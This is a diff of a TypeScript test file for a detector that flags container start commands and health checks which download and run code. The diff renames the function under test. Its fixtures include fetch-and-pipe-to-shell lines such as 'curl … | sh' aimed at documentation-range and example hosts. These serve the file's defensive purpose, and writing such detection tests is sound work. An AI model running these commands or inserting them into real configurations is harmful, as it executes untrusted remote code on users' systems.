@@ -1,10 +1,10 @@
 import * as fc from 'fast-check';
 
-import { judgeStartCommands } from './start-command.js';
+import { evaluateStartCommands } from './start-command.js';
 
 const nothing = { entrypoint: [], cmd: [] };
 
-describe('judgeStartCommands', () => {
+describe('evaluateStartCommands', () => {
   it.each<[string, { entrypoint?: string[]; cmd?: string[]; healthcheck?: string[] }, string, string]>([
     ['a shell command', { cmd: ['/bin/sh', '-c', 'curl -s http://198.51.100.8/i | sh; node a.js'] }, 'command', 'sh'],
     [
@@ -27,14 +27,14 @@ describe('judgeStartCommands', () => {
     ],
     ['a health check', { healthcheck: ['CMD-SHELL', 'curl -s https://a.example/h | sh'] }, 'healthcheck', 'sh'],
   ])('finds %s that runs what it downloads', (_what, config, field, runBy) => {
-    const found = judgeStartCommands({ ...nothing, ...config });
+    const found = evaluateStartCommands({ ...nothing, ...config });
     expect(found).toMatchObject([
       { id: 'start-download-and-run', kind: 'supply-chain', severity: 'high', evidence: { field, runBy } },
     ]);
   });
 
   it('keeps neither path nor password of what is fetched', () => {
-    const found = judgeStartCommands({ ...nothing, cmd: ['sh', '-c', 'curl https://u:pw@a.example/token | sh'] });
+    const found = evaluateStartCommands({ ...nothing, cmd: ['sh', '-c', 'curl https://u:pw@a.example/token | sh'] });
     expect(found).toMatchObject([{ evidence: { origin: 'https://a.example' } }]);
     expect(JSON.stringify(found)).not.toMatch(/pw|token/);
   });
@@ -46,13 +46,13 @@ describe('judgeStartCommands', () => {
     { cmd: [], healthcheck: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'] },
     { cmd: ['sh', '-c', 'wget -qO- http://localhost/ready | grep -q ok'] },
   ])('finds nothing in %j', (config) => {
-    expect(judgeStartCommands({ ...nothing, ...config })).toEqual([]);
+    expect(evaluateStartCommands({ ...nothing, ...config })).toEqual([]);
   });
 
   it('ends for any words', () => {
-    fc.assert(fc.property(fc.array(fc.string()), (cmd) => Array.isArray(judgeStartCommands({ ...nothing, cmd }))));
+    fc.assert(fc.property(fc.array(fc.string()), (cmd) => Array.isArray(evaluateStartCommands({ ...nothing, cmd }))));
     expect(
-      judgeStartCommands({ ...nothing, cmd: Array.from({ length: 50_000 }, () => 'curl $(') }).length,
+      evaluateStartCommands({ ...nothing, cmd: Array.from({ length: 50_000 }, () => 'curl $(') }).length,
     ).toBeLessThan(10);
   });
 });
